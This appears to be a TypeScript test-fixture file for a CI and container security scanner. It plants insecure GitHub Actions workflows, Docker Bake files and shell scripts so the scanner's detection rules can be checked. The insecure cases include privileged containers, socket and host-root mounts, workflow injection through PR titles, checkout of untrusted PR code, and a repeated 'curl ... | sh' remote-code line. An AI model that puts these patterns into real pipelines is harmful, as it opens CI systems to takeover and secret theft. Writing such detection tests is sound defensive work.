import { expression, type Files, PINNED, planted, type Spot, TOKEN } from './spot.js';

const CHECKOUT = `actions/checkout@${'3'.repeat(40)}`;
const HEAD = expression('github.event.pull_request.head.sha');
const TITLE = expression('github.event.pull_request.title');
const on = (event: string, job: string) =>
  `on: ${event}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n${job}`;
const job = (lines: string) =>
  on('push', `    ${lines.replaceAll('\n', '\n    ')}\n    steps: [{ run: docker build . }]\n`);
const step = (line: string) =>
  on('push', `    steps:\n      - run: docker build .\n      - ${line}\n`);
/** A workflow that checks out and builds on an event, with a line or step behind the checkout. */
const checkout =
  (event: string, behind: (it: string) => string) =>
  (it: string): Files =>
    WORKFLOW(on(event, `    steps:\n      - uses: ${CHECKOUT}\n${behind(it)}      - run: make\n`));
const asStep = (it: string) => `      - run: ${it}\n`;
const at =
  (path: string) =>
  (text: string): Files => ({ [path]: text });
const WORKFLOW = at('.github/workflows/a.yml');
const inJob = (name: string, by: Spot['by'], harm: string, fine = 'timeout-minutes: 5') =>
  planted(name, by, (it) => WORKFLOW(job(it)), [harm, fine]);
const inStep = (name: string, by: Spot['by'], harm: string, fine = 'run: make') =>
  planted(name, by, (it) => WORKFLOW(step(it)), [harm, fine]);
const action = (steps: string) =>
  `name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - ${steps}\n`;
const inject = (script: string) =>
  on('pull_request_target', `    steps:\n      - run: ${script}\n`);
const BUILDX = `uses: docker/build-push-action@${'4'.repeat(40)}\n        with:\n          `;
const BAKE_ACTION = `uses: docker/bake-action@${'4'.repeat(40)}\n        with:\n          `;

export const WORKFLOWS: readonly Spot[] = [
  inJob(
    'options of a container',
    /DEP-OPTIONS/,
    `container: { image: "${PINNED}", options: --privileged }`,
  ),
  inJob(
    'options of a container in the long form',
    /DEP-OPTIONS/,
    `container:\n  image: "${PINNED}"\n  options: >-\n    --cpus 1\n    --privileged=true`,
  ),
  inJob(
    'options of a service',
    /DEP-OPTIONS/,
    `services: { db: { image: "${PINNED}", options: "--privileged" } }`,
  ),
  inJob(
    'capabilities of a container',
    /DEP-CAPADD|SYS_ADMIN/,
    `container: { image: "${PINNED}", options: "--cap-add SYS_ADMIN" }`,
  ),
  inJob(
    'the network of the host',
    /DEP-HOSTNET|network/,
    `container: { image: "${PINNED}", options: "--network=host --pid host" }`,
  ),
  inJob(
    'the socket in a container',
    /DEP-SOCK|socket/,
    `container: { image: "${PINNED}", volumes: ["/var/run/docker.sock:/var/run/docker.sock"] }`,
  ),
  inJob(
    'the root of the host',
    /DEP-HOSTPATH|host/,
    `services: { db: { image: "${PINNED}", volumes: ["/:/host"] } }`,
  ),
  inJob(
    'the socket by options',
    /DEP-SOCK|socket/,
    `container: { image: "${PINNED}", options: "-v /var/run/docker.sock:/s" }`,
  ),
  inJob(
    'a container without a tag',
    ['GHA-PIN'],
    'container: evil/image',
    `container: "${PINNED}"`,
  ),
  inJob(
    'a service without a tag',
    ['GHA-PIN'],
    'services: { db: { image: evil/image } }',
    `services: { db: { image: "${PINNED}" } }`,
  ),
  inJob(
    'a token in the environment of a container',
    /GitHub|token/,
    `container: { image: "${PINNED}", env: { A: ${TOKEN} } }`,
  ),
  inJob(
    'a password of a registry',
    /password|credential/i,
    `container: { image: "${PINNED}", credentials: { username: a, password: Kx93jfLq8vZ2pW } }`,
  ),
  inJob(
    'a matrix of containers',
    /DEP-OPTIONS/,
    `strategy: { matrix: { o: ["--privileged"] } }\ncontainer: { image: "${PINNED}", options: "${expression('matrix.o')}" }`,
  ),
  inStep(
    'an action from an image',
    /GHA-PIN|DL3006|no tag|latest|pinned/,
    'uses: docker://evil/image',
  ),
  inStep(
    'an action without a commit',
    ['GHA-PIN'],
    'uses: evil/action@v1',
    `uses: evil/action@${'1'.repeat(40)}`,
  ),
  inStep(
    'a privileged container in a script',
    /DEP-OPTIONS/,
    `run: docker run --rm --privileged ${PINNED} make`,
  ),
  inStep(
    'the socket in a script',
    /DEP-SOCK|socket/,
    `run: docker run -v /var/run/docker.sock:/s ${PINNED} make`,
  ),
  inStep(
    'a privileged container of podman',
    /DEP-OPTIONS/,
    `run: sudo podman run --privileged ${PINNED}`,
  ),
  inStep(
    'a token in an argument of a build',
    /GitHub|GHA-BUILDARG|token/,
    `run: docker build --build-arg T=${TOKEN} .`,
  ),
  inStep(
    'a secret in an argument of a build',
    ['GHA-BUILDARG'],
    `run: docker build --build-arg T=${expression('secrets.T')} .`,
  ),
  inStep(
    'a build with entitlements',
    /DEP-OPTIONS/,
    `${BUILDX}allow: security.insecure`,
    `${BUILDX}pull: true`,
  ),
  inStep(
    'a list of entitlements',
    /DEP-OPTIONS/,
    `${BUILDX}allow: |\n            network.host\n            security.insecure`,
    `${BUILDX}pull: true`,
  ),
  inStep(
    'a build in the network of the host',
    /network/,
    `${BUILDX}network: host`,
    `${BUILDX}pull: true`,
  ),
  inStep(
    'a bake with entitlements',
    /DEP-OPTIONS/,
    `${BAKE_ACTION}allow: security.insecure`,
    `${BAKE_ACTION}pull: true`,
  ),
  inStep(
    'entitlements in a script',
    /DEP-OPTIONS/,
    'run: docker buildx bake --allow security.insecure',
    'run: make',
  ),
  inStep(
    'entitlements of a build in a script',
    /DEP-OPTIONS/,
    'run: docker buildx build --allow=security.insecure -t a .',
    'run: docker buildx build -t a .',
  ),
  planted('untrusted text in a script', ['GHA-INJECT'], (it) => WORKFLOW(inject(it)), [
    `echo "${TITLE}"`.replaceAll('"', ''),
    'make',
  ]),
  planted('untrusted text by an expression', ['GHA-INJECT'], (it) => WORKFLOW(inject(it)), [
    `echo ${expression("format('{0}', github.event.pull_request.title)")}`,
    'make',
  ]),
  planted('untrusted text with other brackets', ['GHA-INJECT'], (it) => WORKFLOW(inject(it)), [
    `echo ${expression("github['event']['pull_request']['title']")}`,
    'make',
  ]),
  planted(
    'untrusted text of the environment',
    ['GHA-INJECT'],
    (it) =>
      WORKFLOW(
        on(
          'pull_request_target',
          `    env: { T: "${it}" }\n    steps:\n      - run: echo ${expression('env.T')}\n`,
        ),
      ),
    [TITLE, 'a'],
  ),
  planted('untrusted text of the name of a branch', ['GHA-INJECT'], (it) => WORKFLOW(inject(it)), [
    `git switch ${expression('github.head_ref')}`,
    'make',
  ]),
  planted(
    'untrusted text in github-script',
    ['GHA-INJECT'],
    (it) =>
      WORKFLOW(
        on(
          'pull_request_target',
          `    steps:\n      - uses: actions/github-script@${'5'.repeat(40)}\n        with: { script: "${it}" }\n`,
        ),
      ),
    [`return '${TITLE}'`, 'return 1'],
  ),
  planted(
    'untrusted text in a discussion',
    ['GHA-INJECT'],
    (it) => WORKFLOW(on('discussion_comment', `    steps:\n      - run: ${it}\n`)),
    [`echo ${expression('github.event.comment.body')}`, 'make'],
  ),
  planted(
    'untrusted code',
    ['GHA-HEAD'],
    checkout('pull_request_target', (it) => it),
    [`        with: { ref: "${HEAD}" }\n`, ''],
  ),
  planted('untrusted code by Git', ['GHA-HEAD'], checkout('pull_request_target', asStep), [
    `git fetch origin ${HEAD} && git checkout FETCH_HEAD`,
    'true',
  ]),
  planted('untrusted code by gh', ['GHA-HEAD'], checkout('pull_request_target', asStep), [
    `gh pr checkout ${expression('github.event.number')}`,
    'true',
  ]),
  planted(
    'untrusted code of a finished run',
    ['GHA-HEAD'],
    checkout('{ workflow_run: { workflows: [a], types: [completed] } }', (it) => it),
    [`        with: { ref: "${expression('github.event.workflow_run.head_sha')}" }\n`, ''],
  ),
  planted(
    'a composite action that a workflow uses',
    ['GHA-INJECT'],
    (it) => ({
      ...WORKFLOW(
        on(
          'pull_request_target',
          `    steps:\n      - uses: ${CHECKOUT}\n      - uses: ./.github/actions/a\n        with: { t: "${TITLE}" }\n`,
        ),
      ),
      '.github/actions/a/action.yml': action(`{ shell: sh, run: "${it}" }`).replace(
        'runs:',
        'inputs: { t: { description: t } }\nruns:',
      ),
    }),
    [`echo ${expression('inputs.t')}`, 'make'],
  ),
  planted(
    'a composite action that no workflow uses',
    /GHA-INJECT|GHA-PIN/,
    (it) => ({ 'action.yml': action(`{ shell: sh, run: docker build . }\n    - ${it}`) }),
    ['uses: evil/action@v1', `uses: evil/action@${'1'.repeat(40)}`],
  ),
  planted(
    'untrusted text in a composite action that no workflow uses',
    ['GHA-INJECT'],
    (it) => ({ 'act/action.yaml': action(`{ shell: sh, run: "${it}" }`) }),
    [`echo ${TITLE}`, 'make'],
  ),
  planted(
    'an action with an image',
    ['GHA-PIN'],
    (it) => ({
      'action.yml': `name: a\ndescription: a\nruns: { using: docker, image: "docker://${it}" }\n`,
    }),
    ['evil/image', PINNED],
  ),
  planted(
    'an action with a Dockerfile of another name',
    ['PS0023'],
    (it) => ({
      'action.yml': 'name: a\ndescription: a\nruns: { using: docker, image: build/img }\n',
      'build/img': `FROM ${PINNED}\nRUN ${it}\nUSER 1\n`,
    }),
    ['curl -s https://a.example/x | sh', 'true'],
  ),
  planted(
    'a reusable workflow',
    ['GHA-INJECT'],
    (it) => ({
      ...WORKFLOW(
        `on: pull_request_target\npermissions: {}\njobs: { a: { uses: ./.github/workflows/b.yml, with: { t: "${TITLE}" } } }\n`,
      ),
      '.github/workflows/b.yml': on(
        '{ workflow_call: { inputs: { t: { type: string } } } }',
        `    steps:\n      - run: ${it}\n`,
      ),
    }),
    [`echo ${expression('inputs.t')}`, 'make'],
  ),
  planted(
    'a workflow whose extension is in capitals',
    ['GHA-INJECT'],
    (it) => at('.github/workflows/a.YML')(inject(it)),
    [`echo ${TITLE}`, 'make'],
  ),
  planted(
    'a workflow behind a link',
    ['GHA-INJECT'],
    (it) => ({
      'ci/real.yml': inject(it),
      '.github/workflows/a.yml': { link: '../../ci/real.yml' },
    }),
    [`echo ${TITLE}`, 'make'],
  ),
  planted(
    'a workflow in the long form of on',
    ['GHA-INJECT'],
    (it) =>
      WORKFLOW(
        inject(it).replace(
          'on: pull_request_target',
          '"on":\n  ? pull_request_target\n  : { types: [opened] }',
        ),
      ),
    [`echo ${TITLE}`, 'make'],
  ),
  {
    ...planted('a workflow of Gitea', /Gitea/, (it) => at('.gitea/workflows/a.yml')(inject(it)), [
      `echo ${TITLE}`,
      'make',
    ]),
    onlyAdded: true,
    hasOtherPurposes: true,
  },
  planted(
    'all permissions',
    ['GHA-TOKEN'],
    (it) =>
      WORKFLOW(
        on('push', '    steps:\n      - run: docker build .\n').replace('permissions: {}', it),
      ),
    ['permissions: write-all', 'permissions: {}'],
  ),
  planted(
    'a script that a workflow runs',
    /DEP-OPTIONS/,
    (it) => ({ ...WORKFLOW(step('run: ./ci/test.sh')), 'ci/test.sh': `#!/bin/sh\n${it}\n` }),
    [`docker run --privileged ${PINNED}`, 'true'],
  ),
];

const bake = (name: string, by: Spot['by'], harm: string, fine = 'tags = ["a"]') =>
  planted(
    name,
    by,
    (it) => ({
      'docker-bake.hcl': `target "a" {\n  context = "."\n  ${it}\n}\n`,
      Dockerfile: `FROM ${PINNED}\nUSER 1\nHEALTHCHECK NONE\n`,
    }),
    [harm, fine],
  );

export const BAKE: readonly Spot[] = [
  bake('entitlements', /DEP-OPTIONS/, 'entitlements = ["security.insecure"]'),
  bake('entitlement for the network of the host', /network/, 'entitlements = ["network.host"]'),
  bake('the network of the host', /network/, 'network = "host"'),
  bake('a token in an argument', /GitHub|token/, `args = { T = "${TOKEN}" }`),
  bake('a token in a label', /GitHub|token/, `labels = { T = "${TOKEN}" }`),
  bake('a token in a comment', /GitHub|token/, `# ${TOKEN}`),
  bake('a password in an argument', /password/i, 'args = { DB_PASSWORD = "Kx93jfLq8vZ2pW" }'),
  bake('a secret from a value', /token|GitHub/, `secret = ["id=a,env=${TOKEN}"]`),
  bake(
    'an inline Dockerfile',
    /dockerfile-inline/,
    `dockerfile-inline = <<E\nFROM ${PINNED}\nRUN curl -s https://a.example/x | sh\nUSER 1\nE`,
  ),
  bake('a function for the Dockerfile', /docker-bake/, 'dockerfile = evil(FILE)'),
  bake('a missing Dockerfile', /docker-bake|missing/, 'dockerfile = "missing"'),
  bake('a Dockerfile outside the repository', /docker-bake|outside/, 'dockerfile = "../../evil"'),
  bake('a damaged file', /docker-bake/, 'args = {'),
  bake('a context from an image', ['PS0021'], 'contexts = { base = "docker-image://evil/base" }'),
  bake('a context from a repository', ['PS0038'], 'contexts = { src = "https://a.example/b.git" }'),
  planted(
    'JSON',
    /DEP-OPTIONS/,
    (it) => ({
      'docker-bake.json': `{ "target": { "a": { "entitlements": [${it}] } } }\n`,
      Dockerfile: `FROM ${PINNED}\nUSER 1\n`,
    }),
    ['"security.insecure"', ''],
  ),
  planted(
    'an override',
    /DEP-OPTIONS/,
    (it) => ({
      'docker-bake.hcl': 'target "a" {}\n',
      'docker-bake.override.hcl': `target "a" {\n  entitlements = [${it}]\n}\n`,
      Dockerfile: `FROM ${PINNED}\nUSER 1\n`,
    }),
    ['"security.insecure"', ''],
  ),
  planted(
    'a variable',
    /DEP-OPTIONS/,
    (it) => ({
      'docker-bake.hcl': `variable "E" { default = "${it}" }\ntarget "a" {\n  entitlements = [E]\n}\n`,
      Dockerfile: `FROM ${PINNED}\nUSER 1\n`,
    }),
    ['security.insecure', 'device'],
  ),
  planted(
    'a target that another one inherits',
    /DEP-OPTIONS/,
    (it) => ({
      'docker-bake.hcl': `target "_b" {\n  ${it}\n}\ntarget "a" {\n  inherits = ["_b"]\n}\n`,
      Dockerfile: `FROM ${PINNED}\nUSER 1\n`,
    }),
    ['entitlements = ["security.insecure"]', ''],
  ),
  planted(
    'a file of another name that a workflow builds',
    ['PS0023'],
    (it) => ({
      ...WORKFLOW(step('run: docker buildx bake -f ci/build.txt')),
      'ci/build.txt': 'target "a" {\n  dockerfile = "ci/img"\n}\n',
      'ci/img': `FROM ${PINNED}\nRUN ${it}\nUSER 1\n`,
    }),
    ['curl -s https://a.example/x | sh', 'true'],
  ),
];

const script = (name: string, by: Spot['by'], harm: string, path = 'run.sh') =>
  planted(name, by, (it) => ({ [path]: `#!/bin/bash\n${it}\n` }), [harm, 'true']);

const addedIn = (spot: Spot): Spot => ({ ...spot, onlyAdded: true });

export const SCRIPTS: readonly Spot[] = [
  script('a privileged container', /DEP-OPTIONS/, `docker run -d --privileged ${PINNED}`),
  script('a privileged container of nerdctl', /DEP-OPTIONS/, `nerdctl run --privileged ${PINNED}`),
  script('a privileged container of podman', /DEP-OPTIONS/, `podman run --privileged ${PINNED}`),
  script(
    'a privileged container that is created first',
    /DEP-OPTIONS/,
    `docker container create --privileged ${PINNED}`,
  ),
  script('a command in a privileged way', /DEP-OPTIONS/, 'docker exec --privileged a sh'),
  script('a privileged pod', /DEP-OPTIONS/, `kubectl run a --image=${PINNED} --privileged`),
  script(
    'the socket',
    /socket|DEP-SOCK/,
    `docker run -v /var/run/docker.sock:/var/run/docker.sock ${PINNED}`,
  ),
  script(
    'the root of the host',
    /host|DEP-HOSTPATH/,
    `docker run --mount type=bind,source=/,target=/host ${PINNED}`,
  ),
  script('the network of the host', /network|DEP-HOSTNET/, `docker run --net host ${PINNED}`),
  script('all capabilities', /capabilit|DEP-CAPADD/, `docker run --cap-add=ALL ${PINNED}`),
  script(
    'a long command',
    /DEP-OPTIONS/,
    `docker run \\\n  -d \\\n  --name a \\\n  --privileged \\\n  ${PINNED}`,
  ),
  script('sudo', /DEP-OPTIONS/, `sudo -E docker --context x run --privileged ${PINNED}`),
  script(
    'a flag in a variable',
    /DEP-OPTIONS/,
    `FLAGS="--privileged"\ndocker run $FLAGS ${PINNED}`,
  ),
  script('a function', /DEP-OPTIONS/, `start() {\n  docker run --privileged ${PINNED}\n}\nstart`),
  script('a Makefile', /DEP-OPTIONS/, `run:\n\tdocker run --privileged ${PINNED}`, 'Makefile'),
  script(
    'a script without extension',
    /DEP-OPTIONS/,
    `docker run --privileged ${PINNED}`,
    'bin/start',
  ),
  addedIn(
    script(
      'a build that cannot be followed',
      /run\.sh|scripts/,
      'docker build -f "$(find . -name x)" .',
    ),
  ),
  addedIn(
    script(
      'a Dockerfile on standard input',
      /PS0023|standard input|run\.sh|scripts/,
      'docker build - <<E\nFROM a\nRUN curl -s https://a.example/x | sh\nE',
    ),
  ),
  addedIn(
    script(
      'buildah',
      /insecure|isolation|buildah|run\.sh|scripts/,
      'buildah bud --isolation chroot -f "$F" .',
    ),
  ),
  addedIn(
    script(
      'a manifest on standard input',
      /DEP-PRIV|kubectl|manifest/,
      'kubectl apply -f - <<E\napiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { containers: [{ name: c, image: a, securityContext: { privileged: true } }] }\nE',
    ),
  ),
];
